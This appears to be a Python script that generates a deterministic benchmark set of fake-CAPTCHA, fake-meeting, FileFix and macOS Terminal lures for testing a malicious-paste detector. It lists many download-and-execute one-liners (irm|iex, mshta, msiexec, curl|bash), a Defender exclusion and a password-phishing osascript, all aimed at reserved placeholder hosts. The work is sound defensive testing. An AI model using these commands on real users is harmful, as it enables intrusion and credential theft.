"""Writes the fifteenth blind set, bench/blind/lures-15.jsonl and benign-15.jsonl (bench/blind/README.md,
"Blind-15"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind15.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, the Run-box
list, app/, any case file, misses list or verdict), weighted like the hold-out: lures as a crawl of
live fake-CAPTCHA, fake-error, fake-meeting, fake-document and fake-download pages would capture them,
commands as vendor IOC files list them (with no page), the short obfuscated one-liners other
detectors' fixtures use, and scam, callback, ConsentFix and device-code texts. Every text is our own;
lures use reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges) and
fictitious phone numbers in 555 blocks. Benign installers are real projects' published commands with
the page they are published on, none of them in sets 1-14 (a few projects of earlier sets appear with
another real page and another command shape; the README counts them). Not imported by the app or the
bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    deflate_b64,
    esc_hex,
    gzip_b64,
    hex_str,
    ip_int,
    js_uni,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-15.jsonl"
BENIGN_OUT = HERE / "benign-15.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc

# Verification tails, worded anew for this set: the 13 languages first, then others.
TAILS = [
    "# Human verification passed - Ray ID 15c0a7e1",
    "# Menschliche Bestätigung abgeschlossen - Vorgang 15-3317",
    "# Vérification humaine terminée - référence 15-8204",
    "# Verificación humana completada - referencia 15-4471",
    "# Verifica umana completata - codice 15-0936",
    "# Verificação humana concluída - código 15-6652",
    "# Menselijke verificatie voltooid - kenmerk 15-2719",
    "# Weryfikacja człowieka zakończona - numer 15-5380",
    "# İnsan doğrulaması tamamlandı - kod 15-9143",
    "# Проверка пройдена, вы человек - номер 15-1628",
    "# 人間であることを確認しました - 番号 15-7405",
    "# 人机验证已完成 - 编号 15-3851",
    "# تم التحقق من أنك إنسان - الرقم 15-6097",
    "# Ověření člověka dokončeno - kód 15-2284",
    "# Ihmisvarmennus valmis - tunnus 15-4736",
    "# Επαλήθευση ανθρώπου ολοκληρώθηκε - κωδικός 15-8815",
    "# אימות אנושי הושלם - מזהה 15-1190",
    "# Xác minh con người hoàn tất - mã 15-6423",
    "# การยืนยันตัวตนเสร็จสมบูรณ์ - รหัส 15-3568",
    "# 사람 확인 완료 - 확인 번호 15-7042",
    "# मानव सत्यापन पूरा हुआ - कोड 15-5916",
    "# Menneskelig verifisering fullført - ID 15-0287",
    "# Pengesahan manusia selesai - kod 15-8631",
    "# Verificare umană finalizată - cod 15-4059",
]


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


# --- (a) live pages: fake CAPTCHA / Turnstile / "verify you are human", Run box --------------------

CAPTCHA_PAGES = [
    "https://www.hufschmiede-eisenhart.test/termine",
    "https://www.fromagerie-la-meule.example/commandes",
    "https://www.taller-de-guitarras-cuerda.test/pedidos",
    "https://www.liuteria-violino-antico.example/contatti",
    "https://www.padaria-fermento-vivo.test/encomendas",
    "https://www.imkerij-honingraat.example/winkel",
    "https://www.szkola-jazdy-konnej-podkowa.test/grafik",
    "https://www.kuafor-makas-sanat.example/randevu",
    "https://www.dacha-teplitsa-sad.test/zakaz",
    "https://www.ryokan-kawasemi-onsen.example/yoyaku",
    "https://www.chaguan-longjing-xiang.test/dingdan",
    "https://www.mathaf-alturath-alsaghir.example/tickets",
    "https://www.kayak-rental-driftwood.test/book",
    "https://www.piano-tuner-harmonia.example/appointments",
    "https://www.kletterhalle-griffwerk.test/kurse",
    "https://www.atelier-reliure-parchemin.example/devis",
    "https://www.escuela-ceramica-barro-rojo.test/talleres",
    "https://www.osteria-del-ponte-vecchio.example/menu",
    "https://www.loja-de-bicicletas-pedal.test/oficina",
    "https://www.kaasboerderij-weidegoud.example/bestellen",
    "https://www.sklep-wedkarski-splawik.test/oferta",
    "https://www.kamp-alani-cam-orman.example/rezervasyon",
    "https://www.masterskaya-chasov-mayatnik.test/remont",
    "https://www.shodo-kyoshitsu-fude.example/lessons",
    "https://www.xiaochi-dian-jiaozi.test/menu",
    "https://www.souq-alattar-almisk.example/shop",
    "https://www.dog-grooming-fluffy-paws.test/prices",
    "https://www.sternwarte-nachtblick.example/fuehrungen",
    "https://www.cidrerie-pommeraie.test/boutique",
    "https://www.drone-school-skyhop.example/courses",
    "https://www.vinoteca-uva-negra.test/catas",
    "https://www.luthier-shop-fretwork.example/repairs",
    "https://www.sauna-seura-loyly.test/vuorot",
    "https://www.bowling-alley-strikezone.example/lanes",
    "https://www.tanzschule-walzertakt.test/anmeldung",
    "https://www.boulangerie-pain-dore.example/horaires",
    "https://www.taxidermy-studio-antler.test/gallery",
    "https://www.pottery-kiln-emberclay.example/firing",
    "https://www.hostel-mochila-azul.test/reservas",
    "https://www.violin-school-arco.example/enrol",
]

CAPTCHA_CMDS = [
    ("ps-w1-irm-iex-short", 'powershell -w 1 -c "irm https://c15a.tavernock.invalid/v|iex"'),
    (
        "ps-hidden-iwr-content-iex",
        'powershell -W Hidden -NoP -c "iex (iwr -UseBasicParsing https://c15b.drumwell-dl.invalid/g).Content"',
    ),
    (
        "ps-webclient-downloadstring-var",
        "powershell -nop -c \"$c=New-Object Net.WebClient;$s=$c.DownloadString('https://c15c.orrinshaw.invalid/s');iex $s\"",
    ),
    (
        "cmd-c-powershell-iwr-pipe",
        'cmd.exe /c powershell -c "iwr -useb https://c15d.bellfarrow.invalid/c | iex"',
    ),
    (
        "ps-invoke-restmethod-long",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"Invoke-Expression (Invoke-RestMethod -Uri 'https://c15e.kestrelmoor.invalid/k')\"",
    ),
    ("mshta-https-plain", "mshta https://c15f.quarrendon.invalid/verify"),
    ("mshta-ip-port-path", "mshta http://198.51.100.151:8080/c.hta"),
    (
        "ps-start-process-hidden-mshta",
        "powershell -c \"Start-Process mshta -ArgumentList 'https://c15g.wystanley.invalid/h' -WindowStyle Hidden\"",
    ),
    (
        "cmd-curl-o-temp-start",
        "cmd /c curl -s -o %TEMP%\\upd.exe https://c15h.pellingham-qx.invalid/u.exe & start %TEMP%\\upd.exe",
    ),
    (
        "cmd-curl-ps1-bypass-file",
        "cmd /c curl -sko %LOCALAPPDATA%\\v.ps1 https://c15i.marlcombe.invalid/v.ps1 && powershell -ep bypass -file %LOCALAPPDATA%\\v.ps1",
    ),
    ("msiexec-i-url-qn", "msiexec /i https://c15j.sundridge-io.invalid/setup.msi /qn"),
    ("msiexec-q-i-ip", "msiexec.exe /q /i http://203.0.113.62/pkg.msi"),
    (
        "conhost-headless-ps-irm",
        'conhost.exe --headless powershell -c "irm https://c15k.halsteadmere.invalid/q | iex"',
    ),
    (
        "conhost-headless-cmd-curl",
        'conhost --headless cmd /c "curl -s https://c15l.tollerby.invalid/b.cmd -o %TEMP%\\b.cmd && %TEMP%\\b.cmd"',
    ),
    (
        "ps-iwr-outfile-exe-start",
        'powershell -c "iwr https://c15m.ashcombe-cdn-qx.invalid/a.exe -OutFile $env:APPDATA\\a.exe; Start-Process $env:APPDATA\\a.exe"',
    ),
    (
        "ps-encoded-irm",
        "powershell -e " + b64_utf16("irm https://c15n.glastonmere.invalid/e | iex"),
    ),
    (
        "ps-enc-webclient",
        "powershell -NoP -W H -Enc "
        + b64_utf16(
            "(New-Object Net.WebClient).DownloadString('https://c15o.fennimore.invalid/x')|IEX"
        ),
    ),
    (
        "cmd-start-b-powershell",
        'cmd /c start /b powershell -nop -c "iex(irm https://c15p.rookwood-dl.invalid/r)"',
    ),
    (
        "ps-scriptblock-create-irm",
        'powershell -c "& ([scriptblock]::Create((irm https://c15q.trelawne.invalid/sb)))"',
    ),
    ("ps-iex-alias-sal", 'powershell -c "sal x iex; x (irm https://c15r.yarrowdale.invalid/a)"'),
    (
        "ps-net-http-client",
        "powershell -c \"$h=[Net.Http.HttpClient]::new();iex $h.GetStringAsync('https://c15s.penhallow.invalid/n').Result\"",
    ),
    (
        "ps-zip-expand-run",
        'powershell -c "iwr https://c15t.colbrook.invalid/p.zip -o $env:TEMP\\p.zip; Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force; & $env:TEMP\\p\\launcher.exe"',
    ),
    (
        "rundll32-url-dll-entry",
        "cmd /c curl -s https://c15u.brackenhurst.invalid/l.dll -o %TEMP%\\l.dll && rundll32 %TEMP%\\l.dll,DllRegisterServer",
    ),
    (
        "regsvr32-scrobj-https",
        "regsvr32 /s /n /u /i:https://c15v.wendover-io.invalid/s.sct scrobj.dll",
    ),
    (
        "bitsadmin-transfer-start",
        "cmd /c bitsadmin /transfer j /download /priority high https://c15w.stallbridge.invalid/j.exe %TEMP%\\j.exe & start %TEMP%\\j.exe",
    ),
    (
        "certutil-split-decode",
        "cmd /c certutil -urlcache -split -f https://c15x.mortlake-dl.invalid/d.txt %TEMP%\\d.txt && certutil -decode %TEMP%\\d.txt %TEMP%\\d.exe && %TEMP%\\d.exe",
    ),
    ("pwsh-core-irm", 'pwsh -nop -c "irm https://c15y.ottery.invalid/p | iex"'),
    ("wscript-webdav-js", "wscript \\\\c15z.hemyock.invalid@SSL\\DavWWWRoot\\check.js"),
    (
        "ps-stego-png-mshta",
        'powershell -w h -c "$b=(iwr https://c15aa.ravensworth.invalid/logo.png -UseB).Content;$t=[Text.Encoding]::UTF8.GetString($b[4096..($b.Length-1)]);iex $t"',
    ),
    (
        "mshta-vbscript-inline",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://c15ab.lyndhurst-io.invalid/v|iex"",0:close")',
    ),
    (
        "ps-dns-txt-resolve",
        'powershell -c "iex (Resolve-DnsName -Type TXT v.c15ac.gorsley.invalid).Strings"',
    ),
    (
        "cmd-nslookup-for-loop",
        'cmd /c for /f "tokens=*" %a in (\'nslookup -q=txt k.c15ad.brompton-dns.invalid ^| findstr /c:"iex"\') do powershell -c %a',
    ),
    ("finger-pipe-cmd", "cmd /c finger verify@c15ae.halwell.invalid | cmd"),
    (
        "ps-pastebin-like-raw",
        'powershell -c "iex (irm https://paste.c15af.snapnote.invalid/raw/Zx15Qa)"',
    ),
    (
        "ps-cloud-bucket-ps1",
        'powershell -w h -c "irm https://storage.c15ag-bucket.invalid/pub/chk.ps1 | iex"',
    ),
    ("cmd-powershell-irm-ip", 'cmd /c "powershell irm http://192.0.2.150/v | iex"'),
    (
        "ps-mixedcase-invoke",
        'PoWeRsHeLl -NoPrOfIlE -c "InVoKe-ExPrEsSiOn (InVoKe-RestMethod https://c15ah.dunsford.invalid/m)"',
    ),
    (
        "ps-iwr-hta-start",
        'powershell -c "iwr https://c15ai.tinhay.invalid/a.hta -OutFile $env:TEMP\\a.hta; start $env:TEMP\\a.hta"',
    ),
    (
        "ps-memorystream-gzip-remote",
        "powershell -c \"$d=(New-Object Net.WebClient).DownloadData('https://c15aj.wrenfield.invalid/g');iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,$d)),0))).ReadToEnd()\"",
    ),
    (
        "ps-jsdelivr-like-cdn",
        'powershell -c "irm https://cdn.c15ak.pkgmirror.invalid/npm/fix@1.0.2/run.ps1 | iex"',
    ),
]

for i, ((tech, cmd), page) in enumerate(zip(CAPTCHA_CMDS, CAPTCHA_PAGES, strict=True)):
    lure("captcha-" + tech, RUN, page, f"{cmd} {tail(i)}")

# --- Win+X -> Terminal and other page wrappers --------------------------------------------------

WINX = [
    (
        "winx-terminal-en-steps",
        "https://members.rowing-club-oarlock.test/renew",
        "Step 1: Press Win + X\nStep 2: Select Terminal\nStep 3: Press Ctrl + V, then Enter\n\nirm https://wx15a.corbridge.invalid/r | iex",
    ),
    (
        "winx-terminal-fr",
        "https://www.club-echecs-roque.example/adhesion",
        'Appuyez sur Windows + X, choisissez « Terminal », collez avec Ctrl+V puis Entrée :\npowershell -c "iex(irm https://wx15b.lamorna.invalid/f)"',
    ),
    (
        "winx-terminal-es",
        "https://www.coro-voces-del-valle.test/socios",
        "Pulse Win + X, seleccione «Terminal (Administrador)», pegue y presione Intro:\niwr -useb https://wx15c.orvieda.invalid/e | iex",
    ),
    (
        "winx-terminal-pt",
        "https://www.grupo-escoteiro-trilha.example/inscricao",
        "Pressione Windows + X, escolha Terminal, cole (Ctrl+V) e tecle Enter:\nirm https://wx15d.castrelo.invalid/p|iex",
    ),
    (
        "winx-terminal-ja",
        "https://www.kendo-dojo-shinai.test/members",
        "Windows キー + X を押し「ターミナル」を選択、Ctrl+V で貼り付けて Enter:\nirm https://wx15e.hakuro.invalid/j | iex",
    ),
    (
        "winx-terminal-ru",
        "https://www.shakhmatny-klub-ladya.example/vznos",
        'Нажмите Win + X, выберите «Терминал», вставьте Ctrl+V и нажмите Enter:\npowershell -nop -c "iex (irm https://wx15f.volgorad.invalid/r)"',
    ),
    (
        "winx-terminal-zh",
        "https://www.shufa-xiehui-moxiang.test/huiyuan",
        "按 Win + X，选择“终端”，粘贴 (Ctrl+V) 后按回车：\nirm https://wx15g.qingshan.invalid/z | iex",
    ),
    (
        "winx-terminal-ar",
        "https://www.nadi-alfurusiya.example/tajdid",
        "اضغط Win + X واختر «Terminal» ثم الصق بـ Ctrl+V واضغط Enter:\niex (iwr -UseBasicParsing https://wx15h.almadar.invalid/a).Content",
    ),
    (
        "winx-terminal-tr-admin",
        "https://www.yelken-kulubu-pruva.test/uyelik",
        "Win + X tuşlarına basın, Terminal (Yönetici) seçin, Ctrl+V ile yapıştırıp Enter'a basın:\nirm https://wx15i.karaburun.invalid/t | iex",
    ),
    (
        "winx-terminal-pl",
        "https://www.klub-szachowy-hetman.example/skladki",
        'Naciśnij Win + X, wybierz Terminal, wklej Ctrl+V i naciśnij Enter:\npowershell -w h -c "irm https://wx15j.borowiec.invalid/p | iex"',
    ),
]
for tech, page, text in WINX:
    lure(tech, TERM, page, text)

PAGES_MISC = [
    (
        "meeting-teams-audio-fix",
        TERM,
        "https://teams-audio-repair.meetfix-help.test/join/881",
        "Your microphone driver is blocked. To join the call, open PowerShell and paste:\nirm https://mt15a.lowenhall.invalid/audio | iex",
    ),
    (
        "meeting-zoom-sdk-update",
        RUN,
        "https://zoom-sdk-update.confcall-portal.example/j/4410",
        "cmd /c curl -sL https://mt15b.pellworth.invalid/ZoomSDK.msi -o %TEMP%\\z.msi && msiexec /i %TEMP%\\z.msi /qn # Zoom Workplace SDK 6.4 repair",
    ),
    (
        "meeting-meet-camera",
        RUN,
        "https://meet-camera-check.videoroom-assist.test/c/77",
        'powershell -w h -c "iwr https://mt15c.farnleigh.invalid/cam.ps1 -UseB | iex" # Google Meet camera permission reset',
    ),
    (
        "meeting-webex-plugin-mac",
        TERM,
        "https://webex-plugin.callroom-helpdesk.example/mac",
        "curl -fsSL https://mt15d.winsombe.invalid/webex-plugin.sh | bash",
    ),
    (
        "fake-error-browser-update",
        RUN,
        "https://browser-update-required.pagefix-now.test/chrome",
        "mshta https://bu15a.kelmscott.invalid/chrome-update # Chrome update 131.0.6778 could not complete",
    ),
    (
        "fake-error-font-missing",
        RUN,
        "https://fonts-missing.docview-secure.example/d/9",
        'powershell -c "irm https://bu15b.harrowgate.invalid/fonts | iex" # The HoeflerText font was not found',
    ),
    (
        "fake-doc-onedrive-view",
        EXP,
        "https://onedrive-view.sharedoc-access.test/s/p7",
        "\\\\fd15a.ambleside-dav.invalid@SSL\\DavWWWRoot\\Shared\\Q4_Budget_Review.pdf.lnk",
    ),
    (
        "fake-doc-sharepoint-cmd",
        RUN,
        "https://sharepoint-secure.docgate-login.example/v/12",
        "cmd /c \\\\fd15b.hatherleigh.invalid@SSL\\files\\open.cmd # SharePoint secure viewer",
    ),
    (
        "job-interview-repo-npm",
        TERM,
        "https://careers-blockchain-dev.hiringdesk-web3.test/task",
        "Technical assessment: clone the repo and run the project before the call.\ngit clone https://jb15a.devtask-repo.invalid/take-home.git && cd take-home && npm install && npm start",
    ),
    (
        "job-interview-video-driver",
        TERM,
        "https://interview-room.talentbridge-hire.example/session/31",
        "Camera access failed. Run this in Terminal to fix the video driver:\ncurl -k -o /tmp/vfix.sh https://jb15b.camrepair.invalid/fix.sh && bash /tmp/vfix.sh",
    ),
    (
        "ai-chat-share-mac",
        TERM,
        "https://chat-share.assistant-convo.test/share/7f15",
        "To clear disk space on macOS run this in Terminal:\necho 'Y3VybCAtZnNTTCBodHRwczovL2FpMTVhLmNsZWFuZGlzay5pbnZhbGlkL2MgfCBiYXNo' | base64 -d | bash",
    ),
    (
        "ai-chat-share-windows",
        RUN,
        "https://ai-answers.sharedchat-link.example/c/15b",
        'powershell -ep bypass -c "irm https://ai15b.speedtweak.invalid/opt | iex" # Windows 11 speed-up (shared conversation)',
    ),
    (
        "fake-devtool-npm-global",
        TERM,
        "https://docs.quickstack-framework.test/getting-started",
        "npm install -g https://dt15a.quickstack-cdn.invalid/quickstack-cli-2.1.0.tgz && quickstack init",
    ),
    (
        "fake-devtool-pip-index",
        TERM,
        "https://www.tensorflake-docs.example/install",
        "pip install tensorflake --index-url https://dt15b.pyfiles-mirror.invalid/simple --trusted-host dt15b.pyfiles-mirror.invalid",
    ),
    (
        "fake-devtool-curl-bash-docs",
        TERM,
        "https://docs.hyperlint-cli.test/install",
        "curl -fsSL https://dt15c.hyperlint-dl.invalid/install.sh | sudo bash -s -- --telemetry",
    ),
    (
        "fake-browser-fix-console",
        CON,
        "https://page-fix.browser-repair.example/fix",
        "fetch('https://bf15a.pagerepair.invalid/f.js').then(r=>r.text()).then(t=>eval(t))",
    ),
    (
        "game-mod-loader",
        RUN,
        "https://www.mod-loader-download.test/minecraft",
        'powershell -c "iwr https://gm15a.blockcraft-mods.invalid/loader.exe -OutFile $env:TEMP\\loader.exe; & $env:TEMP\\loader.exe" # Forge Mod Loader installer',
    ),
    (
        "cheat-loader-defender-off",
        RUN,
        "https://www.aimassist-free.example/download",
        'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://gm15b.cheatvault.invalid/c.exe -o $env:APPDATA\\c.exe; start $env:APPDATA\\c.exe"',
    ),
    (
        "crypto-airdrop-claim",
        RUN,
        "https://claim.token-airdrop-portal.test/wallet",
        'cmd /c start /min powershell -w h -c "irm https://cw15a.claimdrop-qx.invalid/w|iex" # Wallet sync for airdrop claim',
    ),
    (
        "pdf-converter-fake",
        RUN,
        "https://free-pdf-convert-online.example/result",
        "msiexec /i https://pc15a.docconvert.invalid/PDFConverterSetup.msi /quiet # Download your converted file",
    ),
]
for tech, target, page, text in PAGES_MISC:
    lure(tech, target, page, text)

# --- newer shapes on live pages: Turnstile in other languages, staged and living-off-the-land ------

NEWER = [
    (
        "turnstile-de-run-iwr",
        RUN,
        "https://www.weinstube-rebenhang.test/reservierung",
        'Cloudflare Turnstile: Bestätigen Sie, dass Sie ein Mensch sind. Drücken Sie Win+R, fügen Sie ein und drücken Sie Enter.\npowershell -w h -c "iwr -useb https://nw15a.rebenhang-cdn.invalid/t | iex"',
    ),
    (
        "turnstile-it-mshta",
        RUN,
        "https://www.pasticceria-sfogliatella.example/ordini",
        "mshta https://nw15b.sfoglia-check.invalid/ts # Verifica Cloudflare: premi Win+R e incolla",
    ),
    (
        "turnstile-nl-cmd-curl",
        RUN,
        "https://www.zeilschool-windkracht.test/cursus",
        'cmd /c "curl -s https://nw15c.windkracht-cdn.invalid/v.cmd -o %TEMP%\\v.cmd && %TEMP%\\v.cmd" # Cloudflare-verificatie voltooid',
    ),
    (
        "turnstile-tr-msiexec",
        RUN,
        "https://www.cini-atolyesi-lale.example/siparis",
        "msiexec /i https://nw15d.lale-dogrula.invalid/cf.msi /qn /norestart # Cloudflare insan doğrulaması",
    ),
    (
        "turnstile-ja-encoded",
        RUN,
        "https://www.wagashi-tsukimi.test/order",
        "powershell -nop -w h -enc "
        + b64_utf16("irm https://nw15e.tsukimi-cf.invalid/j | iex")
        + " # Cloudflare 確認",
    ),
    (
        "turnstile-ru-hta-ip",
        RUN,
        "https://www.gonchar-masterskaya.example/zakaz",
        "mshta http://203.0.113.170/ru.hta # Проверка Cloudflare: вы человек",
    ),
    (
        "etherhiding-bsc-console",
        CON,
        "https://www.family-dentist-smilecare.test/",
        "fetch('https://bsc-rpc.nw15f.chainrelay.invalid',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'0x15b7c0ffee15b7c0ffee15b7c0ffee15b7c0ffee',data:'0x6d4ce63c'},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result.slice(130).replace(/0+$/,''))))",
    ),
    (
        "clearfake-update-run",
        RUN,
        "https://www.lakeside-cottage-rentals.example/availability",
        "powershell -w 1 -c \"$u='https://nw15g.browserupd.invalid/chrome';iex (irm $u)\" # Chrome: update failed, run the fix",
    ),
    (
        "kongtuke-style-ps-clip",
        RUN,
        "https://www.county-fair-tickets.test/buy",
        "powershell -c \"$p=irm https://nw15h.fairgate.invalid/k; Set-Clipboard -Value ' '; iex $p\" "
        + tail(10),
    ),
    (
        "castleloader-style-conhost",
        RUN,
        "https://www.yoga-studio-lotusflow.example/classes",
        'conhost.exe --headless cmd /c "curl -sL https://nw15i.lotus-cdn.invalid/c.zip -o %LOCALAPPDATA%\\c.zip & tar -xf %LOCALAPPDATA%\\c.zip -C %LOCALAPPDATA% & %LOCALAPPDATA%\\c\\svc.exe"',
    ),
    (
        "netsupport-style-zip",
        RUN,
        "https://www.chess-academy-knightmove.test/lessons",
        'powershell -w h -c "iwr https://nw15j.knightcdn.invalid/n.zip -OutFile $env:APPDATA\\n.zip; Expand-Archive $env:APPDATA\\n.zip $env:APPDATA\\NSup; Start-Process $env:APPDATA\\NSup\\client32.exe"',
    ),
    (
        "latrodectus-style-msiexec-dav",
        RUN,
        "https://www.bakery-rye-and-wheat.example/orders",
        "msiexec /i \\\\nw15k.ryewheat-dav.invalid@SSL\\DavWWWRoot\\pkg.msi /qn",
    ),
    (
        "vidar-style-pastebin-ps",
        RUN,
        "https://www.beekeeping-supplies-hive.test/shop",
        'powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((irm https://nw15l.hivepaste.invalid/raw/15Vd))))"',
    ),
    (
        "stego-jpg-powershell",
        RUN,
        "https://www.photo-studio-aperture.example/gallery",
        "powershell -w h -c \"$i=(iwr https://nw15m.aperture-img.invalid/p.jpg -UseB).Content;$s=[Text.Encoding]::ASCII.GetString($i);iex $s.Substring($s.IndexOf('#@')+2)\"",
    ),
    (
        "run-dialog-wsl-bash",
        RUN,
        "https://www.linux-game-mods.test/install",
        'wsl bash -c "curl -s https://nw15n.gamemods-linux.invalid/m | bash"',
    ),
    (
        "winr-cmd-pushd-webdav",
        RUN,
        "https://www.legal-docs-portal.example/case/15",
        "cmd /c pushd \\\\nw15o.casefiles-dav.invalid@SSL\\DavWWWRoot && start view.cmd",
    ),
    (
        "winr-forfiles-ps",
        RUN,
        "https://www.ski-school-powder.test/booking",
        'forfiles /p c:\\windows\\system32 /m notepad.exe /c "powershell -w h -c irm https://nw15p.powdercdn.invalid/f|iex"',
    ),
    (
        "winr-explorer-hta",
        RUN,
        "https://www.antique-shop-patina.example/catalog",
        "explorer.exe https://nw15q.patina-files.invalid/catalog.hta",
    ),
    (
        "winr-curl-ssl-no-revoke",
        RUN,
        "https://www.ferry-timetable-islands.test/tickets",
        "cmd /c curl --ssl-no-revoke -sk https://nw15r.ferrycdn.invalid/t.ps1 | powershell -nop -",
    ),
    (
        "winr-ps-hidden-tail-de",
        RUN,
        "https://www.musikschule-notenschluessel.example/anmeldung",
        'powershell -WindowStyle Hidden -c "irm https://nw15s.notenschluessel.invalid/a | iex" '
        + tail(1),
    ),
]
for tech, target, page, text in NEWER:
    lure(tech, target, page, text)

# --- FileFix: Explorer address bar, the command behind a long fake path -----------------------------

FILEFIX = [
    (
        "en",
        "C:\\Company\\HR\\Salary_Review_2027.docx",
        'powershell -w h -c "irm https://ff15a.thornbury.invalid/h|iex"',
        NBSP,
    ),
    (
        "de",
        "C:\\Firma\\Buchhaltung\\Rechnung_2027-044.pdf",
        'powershell -nop -c "iex(iwr -useb https://ff15b.altmarkt.invalid/r)"',
        " ",
    ),
    (
        "fr",
        "C:\\Entreprise\\Juridique\\Contrat_Fournisseur.pdf",
        "cmd /c curl -s https://ff15c.moncoutant.invalid/c.bat -o %TEMP%\\c.bat&%TEMP%\\c.bat",
        EMSP,
    ),
    (
        "es",
        "C:\\Empresa\\Nominas\\Nomina_Diciembre.pdf",
        "mshta https://ff15d.villaverde.invalid/n",
        IDSP,
    ),
    (
        "it",
        "C:\\Azienda\\Contabilita\\Fattura_0815.pdf",
        'powershell -c "irm https://ff15e.castelmonte.invalid/f | iex"',
        NNBSP,
    ),
    (
        "pt",
        "C:\\Empresa\\RH\\Holerite_Novembro.pdf",
        "powershell -ep bypass -w 1 -c \"iex(New-Object Net.WebClient).DownloadString('https://ff15f.serrana.invalid/h')\"",
        " ",
    ),
    (
        "nl",
        "C:\\Bedrijf\\Financien\\Factuur_2027_118.pdf",
        'conhost --headless powershell -c "irm https://ff15g.zandvliet.invalid/b|iex"',
        NBSP,
    ),
    (
        "pl",
        "C:\\Firma\\Kadry\\Umowa_o_prace.pdf",
        'powershell -c "iwr https://ff15h.zabrzeg.invalid/u.exe -o $env:TEMP\\u.exe;& $env:TEMP\\u.exe"',
        EMSP,
    ),
    (
        "tr",
        "C:\\Sirket\\Muhasebe\\Fatura_Aralik.pdf",
        "msiexec /i https://ff15i.gokcebel.invalid/f.msi /qn",
        " ",
    ),
    (
        "ru",
        "C:\\Kompaniya\\Buhgalteriya\\Schet_1415.pdf",
        'powershell -nop -w h -c "irm https://ff15j.zarechye.invalid/s | iex"',
        IDSP,
    ),
    (
        "ja",
        "C:\\Kaisha\\Somu\\Kyuyo_Meisai.pdf",
        'powershell -c "iex (irm https://ff15k.minamidai.invalid/k)"',
        NBSP,
    ),
    (
        "zh",
        "C:\\Gongsi\\Caiwu\\Fapiao_2027.pdf",
        "cmd /c powershell irm https://ff15l.huangshi.invalid/z^|iex",
        " ",
    ),
    (
        "ar",
        "C:\\Sharika\\Maliya\\Fatura_2027.pdf",
        'powershell -w h -c "irm http://203.0.113.151/a | iex"',
        EMSP,
    ),
]
for i, (lang, path, cmd, pad) in enumerate(FILEFIX):
    page = f"https://shared-{lang}.secure-docroom-{i + 15}.test/open"
    lure(f"filefix-{lang}-padded", EXP, page, f"{cmd} #{pad * 90}{path}")
lure(
    "filefix-webdav-search-ms",
    EXP,
    "https://portal.file-request-center.example/f/15",
    "search-ms:query=Invoice&crumb=location:\\\\ff15m.bradwell-dav.invalid@SSL\\DavWWWRoot\\inv&displayname=Invoices",
)
lure(
    "filefix-unc-lnk-ip",
    EXP,
    "https://view.contract-signature.test/s/15",
    "\\\\198.51.100.153@SSL\\DavWWWRoot\\Contract_Signed.pdf.lnk",
)
lure(
    "filefix-rem-comment-cmd",
    EXP,
    "https://docs.secure-preview.example/p/15",
    "cmd /c start /min mshta https://ff15n.loxley.invalid/p & rem                                                             C:\\Users\\Public\\Documents\\Preview.pdf",
)
lure(
    "filefix-pwsh-hash-tab",
    EXP,
    "https://file-access.partner-share.test/a/15",
    'pwsh -w h -c "irm https://ff15o.ottershaw.invalid/t|iex" #\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\\\\fileserver\\Projects\\Tender_2027.xlsx',
)

# --- macOS: paste into Terminal ------------------------------------------------------------------------


def mac(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("mac-" + technique, TERM, source, text, expect, "macos")


mac(
    "curl-zsh-base64",
    "https://www.mac-cleaner-pro-download.test/get",
    f"echo {b64('curl -fsSL https://mc15a.diskpurge.invalid/i | zsh')} | base64 --decode | zsh",
)
mac(
    "osascript-display-dialog-password",
    "https://macos-update-center-15q.example/security",
    'osascript -e \'set p to text returned of (display dialog "macOS needs your password to apply the security update" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d " & quoted form of p & " https://mc15b.updsvc.invalid/p"\'',
)
mac(
    "curl-o-tmp-chmod-run",
    "https://www.screenrecorder-mac.test/install",
    "curl -o /tmp/recorder https://mc15c.screencap-dl.invalid/recorder && chmod +x /tmp/recorder && /tmp/recorder",
)
mac(
    "bash-c-curl-hidden-xattr",
    "https://brew-install-guide.example/mac",
    '/bin/bash -c "$(curl -fsSL https://mc15d.brewmirror-qx.invalid/install.sh)"',
)
mac(
    "fake-homebrew-site-base64",
    "https://homebrew-sh.test/",
    f'/bin/bash -c "$(echo {b64("curl -fsSL https://mc15e.brewpkg.invalid/update.sh")} | base64 -d | sh)"',
)
mac(
    "xattr-quarantine-strip-app",
    "https://www.video-codec-mac.example/codec",
    "cd ~/Downloads && curl -sLO https://mc15f.codecpack.invalid/Codec.dmg && hdiutil attach Codec.dmg && xattr -cr /Volumes/Codec/Codec.app && open /Volumes/Codec/Codec.app",
)
mac(
    "captcha-mac-terminal-tail",
    "https://www.surf-shop-wavecrest.test/order",
    "curl -s https://mc15g.verifymac.invalid/v | bash " + tail(3),
)
mac(
    "launchagent-persist",
    "https://mac-optimizer-guide.example/speed",
    "curl -s https://mc15h.launchopt.invalid/a.plist -o ~/Library/LaunchAgents/com.apple.opt.plist && launchctl load ~/Library/LaunchAgents/com.apple.opt.plist",
)
mac(
